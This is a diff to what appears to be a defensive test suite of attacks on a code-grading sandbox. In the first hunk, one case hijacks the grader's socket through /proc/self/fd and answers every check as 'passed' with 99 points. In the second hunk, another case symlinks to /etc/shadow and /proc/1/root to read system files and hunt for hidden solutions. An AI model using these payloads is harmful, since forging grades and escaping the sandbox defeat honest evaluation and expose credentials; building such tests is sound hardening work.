@@ -525,23 +525,26 @@ FORGED = (
     Attack(
         "a thread that takes the requests and answers yes",
         "output",
-        {
-            "plain": RIGHT["plain"]
-            + "\n"
-            + _FRAME
-            + """
+        {"plain": "def plain(x):\n    return x - x + 1"},
+        cells=(
+            (
+                "triple-again",
+                _FRAME
+                + """
 import socket, threading
 def answer():
-    talk = next(socket.socket(fileno=n) for n in range(3, 256) if os.path.exists(f"/proc/self/fd/{n}") and "socket" in os.readlink(f"/proc/self/fd/{n}"))
+    links = {n: os.readlink(f"/proc/self/fd/{n}") for n in range(3, 256) if os.path.lexists(f"/proc/self/fd/{n}")}
+    talk = next(socket.socket(fileno=n) for n, link in links.items() if "socket" in link)
     while True:
         head = talk.recv(8)
         size = int.from_bytes(head[:4], "big")
         request = json.loads(talk.recv(size))
         talk.send(frame({"n": request["n"], "status": "passed", "value": True, "points": 99, "kind": "check"}))
 threading.Thread(target=answer, daemon=True).start()
-"""
-        },
-        loses=("triple-again", "plain-rule"),
+""",
+            ),
+        ),
+        loses=("plain-rule",),
         hasty=True,
     ),
     Attack(
@@ -988,7 +991,7 @@ FILES = (
     Attack(
         "links",
         "files",
-        first="import os\nfor target in ('/etc/shadow', '/proc/1/root', '/proc/1/cwd', '/proc/self/root/..', '/work'):\n    os.symlink(target, 'link')\n    try:\n        if os.path.isfile('link'): print('LOOT', open('link').read(10))\n"
+        first="import os\nfor target in ('/etc/shadow', '/proc/1/root', '/proc/1/cwd', '/proc/self/root/..', '/course'):\n    os.symlink(target, 'link')\n    try:\n        if os.path.isfile('link'): print('LOOT', open('link').read(10))\n"
         "        names = os.listdir('link')\n        if 'solutions' in names or 'home' in names or 'var' in names: print('LOOT', target, names)\n    except OSError:\n        pass\n    os.unlink('link')",
     ),
     Attack(
